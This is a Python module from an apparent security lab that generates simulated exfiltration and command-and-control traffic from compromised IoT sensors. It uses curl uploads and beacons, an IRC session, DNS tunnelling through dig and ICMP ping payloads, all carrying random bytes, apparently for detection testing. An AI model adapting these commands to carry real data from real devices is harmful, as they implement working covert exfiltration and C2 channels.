"""Data that leaves through a taken-over device: uploads, DNS and ICMP tunnels, beacons to a C2 server."""

from __future__ import annotations

import random
import subprocess
import threading
import time

from emtc_lab.attacks.base import Aim, attack, own, tool
from emtc_lab.site import TUNNEL_DOMAIN

_SENSORS = ("mqtt-sensor", "mqtt-sleeper", "coap-sensor", "lwm2m-node", "alarm-panel", "tracker", "http-reporter")


@attack("upload", "exfiltration", "device", "c2", bots=_SENSORS)
def upload(aim: Aim) -> list[str]:
    """A sensor uploads what it has never had."""
    size = aim.rng.randint(300_000, 900_000) if aim.loud else 2_500
    gap_s = 0.5 if aim.loud else aim.rng.uniform(3, 8)
    return own("post", aim.victim, size, gap_s, f"{aim.seconds:.0f}", aim.rng.randrange(10**6))


@attack("beacon", "command and control", "device", "c2")
def beacon(aim: Aim) -> list[str]:
    """Small requests at a jittered interval."""
    gap_s = aim.rng.uniform(0.7, 2) if aim.loud else aim.rng.uniform(5, 12)
    return own("post", aim.victim, aim.rng.randint(40, 200), gap_s, f"{aim.seconds:.0f}", aim.rng.randrange(10**6))


@attack("irc-session", "command and control", "device", "c2", ok=(0, 28))
def irc_session(aim: Aim) -> list[str]:
    """A bot's session on port 6667: silent, or chatty."""
    gap = f"{aim.rate((0.2, 0.5), (5, 10)):.1f}"
    said = f"for i in $(seq 300); do echo PRIVMSG $i; sleep {gap}; done"
    return ["sh", "-c", f"{said} | curl -s -m {aim.seconds:.0f} telnet://{aim.victim}:6667"]


@attack("dns-tunnel", "exfiltration", "device", "lan")
def dns_tunnel(aim: Aim) -> list[str]:
    """TXT and NULL queries whose names carry data, to whatever resolver the device has."""
    gap_s = aim.rng.uniform(0.05, 0.2) if aim.loud else aim.rng.uniform(2, 6)
    return own("dns_carry", gap_s, f"{aim.seconds:.0f}", aim.rng.randrange(10**6))


@attack("icmp-tunnel", "exfiltration", "device", "c2", ok=(0, 1))
def icmp_tunnel(aim: Aim) -> list[str]:
    """Echo requests with a payload."""
    size, gap_s = aim.rng.randint(300, 1200), aim.rate((0.2, 0.4), (2, 5))
    pattern = f"{aim.rng.randrange(2**64):016x}"
    return [
        "ping",
        "-q",
        "-s",
        str(size),
        "-i",
        f"{gap_s:.1f}",
        "-p",
        pattern,
        "-w",
        f"{aim.seconds:.0f}",
        aim.victim,
    ]


def _gaps(mean_s: float, seconds: float, rng: random.Random) -> list[float]:
    return [mean_s * rng.uniform(0.7, 1.3) for _ in range(max(int(seconds / mean_s), 2))]


@tool
def post(server: str, size: str, gap_s: str, seconds: str, seed: str) -> None:
    """POST random bytes again and again, over TLS where the seed is odd."""
    rng = random.Random(seed)
    scheme = "https" if int(seed) % 2 else "http"
    end = time.monotonic() + float(seconds)
    for gap in _gaps(float(gap_s), float(seconds), rng):
        command = ("curl", "-s", "-k", "-m", f"{seconds}", "-o", "/dev/null", "--data-binary", "@-")
        subprocess.run([*command, f"{scheme}://{server}/put"], input=rng.randbytes(int(size)), check=False)
        if time.monotonic() > end:
            return
        threading.Event().wait(gap)


@tool
def dns_carry(gap_s: str, seconds: str, seed: str) -> None:
    """One query per piece of data, through the resolver that the device has."""
    rng = random.Random(seed)
    for gap in _gaps(float(gap_s), float(seconds), rng):
        name = f"{rng.randbytes(24).hex()}.{rng.randbytes(rng.randint(8, 28)).hex()}.{TUNNEL_DOMAIN}"
        kind = rng.choice(["TXT", "TXT", "NULL", "CNAME"])
        subprocess.run(["dig", "+tries=1", "+time=2", kind, name], capture_output=True, check=False)
        threading.Event().wait(gap)
